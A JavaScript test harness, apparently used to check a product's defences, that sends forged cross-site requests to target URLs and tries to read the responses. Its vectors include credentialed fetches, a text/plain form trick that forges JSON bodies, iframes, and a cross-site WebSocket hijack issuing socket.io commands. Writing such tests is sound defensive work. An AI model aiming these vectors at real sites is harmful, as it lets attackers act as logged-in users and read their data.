// Runs in the attacker's page. Each vector sends one forged request and returns what it could read.
const PATIENCE_MS = 600;

function pause(ms) {
  return new Promise((resolve) => {
    setTimeout(resolve, ms);
  });
}

/** The result of a vector that could read nothing. */
const nothing = "";

function addFrame() {
  const frame = document.createElement("iframe");
  frame.name = `frame-${crypto.randomUUID()}`;
  document.body.append(frame);
  return frame;
}

function readFrame(frame) {
  try {
    return frame.contentDocument?.body?.innerText ?? nothing;
  } catch {
    return nothing;
  }
}

async function submitForm(target, enctype) {
  const frame = addFrame();
  const form = document.createElement("form");
  form.action = target.url;
  form.method = target.method;
  form.enctype = enctype;
  form.target = frame.name;
  const field = document.createElement("input");
  // In text/plain this becomes the exact JSON that the call expects.
  const json = JSON.stringify(target.body ?? {});
  field.name = enctype === "text/plain" ? `${json.slice(0, -1)}${json === "{}" ? "" : ","}"x":"` : "tag";
  field.value = enctype === "text/plain" ? '"}' : "forged";
  form.append(field);
  document.body.append(form);
  form.submit();
  await pause(PATIENCE_MS);
  return readFrame(frame);
}

async function tryFetch(target, mode) {
  const options = { method: target.method, credentials: "include", mode };
  if (target.method === "POST") {
    options.body = JSON.stringify(target.body);
    options.headers = { "content-type": mode === "cors" ? "application/json" : "text/plain" };
  }
  try {
    return await (await fetch(target.url, options)).text();
  } catch {
    return nothing;
  }
}

function loadImage(target) {
  return new Promise((resolve) => {
    const image = new Image();
    image.addEventListener("load", () => resolve(`${image.naturalWidth}`));
    image.addEventListener("error", () => resolve(nothing));
    image.src = target.url;
  });
}

async function openWindow(target) {
  const opened = window.open(target.url);
  await pause(PATIENCE_MS);
  try {
    return opened?.document?.body?.innerText ?? nothing;
  } catch {
    return nothing;
  } finally {
    opened?.close();
  }
}

async function prefetch(target) {
  const link = document.createElement("link");
  link.rel = "prefetch";
  link.href = target.url;
  document.head.append(link);
  await pause(PATIENCE_MS);
  return nothing;
}

function openSocket(target) {
  return new Promise((resolve) => {
    const address = new URL(target.url);
    address.protocol = "ws:";
    const socket = new WebSocket(address);
    let heard = nothing;
    socket.addEventListener("message", ({ data }) => {
      heard += data;
      // The first packets of the product's page: connect to the namespace, then a request.
      socket.send("40");
      socket.send('42["flux_handler"]');
    });
    socket.addEventListener("error", () => resolve(heard));
    setTimeout(() => {
      socket.close();
      resolve(heard);
    }, PATIENCE_MS);
  });
}

async function openFrame(target) {
  const frame = addFrame();
  frame.src = target.url;
  await pause(PATIENCE_MS);
  return readFrame(frame);
}

const vectors = {
  image: loadImage,
  "no-cors fetch": (target) => tryFetch(target, "no-cors"),
  "cors fetch": (target) => tryFetch(target, "cors"),
  "form, urlencoded": (target) => submitForm(target, "application/x-www-form-urlencoded"),
  "form, multipart": (target) => submitForm(target, "multipart/form-data"),
  "form, text": (target) => submitForm(target, "text/plain"),
  iframe: openFrame,
  "window.open": openWindow,
  prefetch,
  WebSocket: openSocket,
  "top navigation": async (target) => {
    window.top.location.href = target.url;
    return nothing;
  },
};

/** Called by the test: runs one vector against all targets at once. */
globalThis.attack = (vector, targets) => Promise.all(targets.map((target) => vectors[vector](target)));
